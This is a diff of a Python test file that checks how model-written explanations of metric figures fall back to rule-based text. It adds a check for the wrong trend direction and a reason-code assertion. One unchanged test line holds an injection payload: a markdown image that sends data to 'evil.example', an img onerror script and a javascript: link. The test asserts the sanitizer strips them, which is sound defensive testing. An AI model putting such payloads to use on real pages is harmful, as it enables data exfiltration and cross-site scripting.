@@ -88,6 +88,10 @@ def test_figures_that_are_none_are_not_shown_and_what_is_shown_does_nothing(prod
     found = explained(product, interval="hour")
     assert (found["written_by"], found["reason"]) == ("rules", "The model wrote 5000, which is none of the figures.")
     assert found["text"].startswith("Order came to 4.")
+    provider.says("Orders fell to 4.")
+    found = explained(product, interval="hour")
+    assert (found["written_by"], found["reason_code"]) == ("rules", "model_wrong_direction")
+    assert found["reason"] == "The model wrote “fell”, which is not how the figures went."
     provider.says("order came to 4. ![](//evil.example/?d=4) <img src=//evil.example/4 onerror=alert(4)> [more](javascript:alert(4))")
     assert explained(product, interval="hour")["text"] == "order came to 4. more"
 
@@ -104,7 +108,7 @@ def test_a_model_that_fails_leaves_words_by_rules_and_a_project_has_its_allowanc
     assert explained(product, compare="previous_period")["written_by"] == "model"
     count = len(provider.asked)
     found = explained(product, "th", compare="previous_period")
-    assert (found["written_by"], found["reason"]) == ("rules", "The project has used what it may of the model today.")
+    assert (found["written_by"], found["reason_code"]) == ("rules", "model_day_used")
     assert len(provider.asked) == count
     use = product.client.get("/api/insights/usage").json()
     assert (use["model"], use["daily_tokens"], len(use["days"])) == ("small", DAILY_TOKENS, 1)
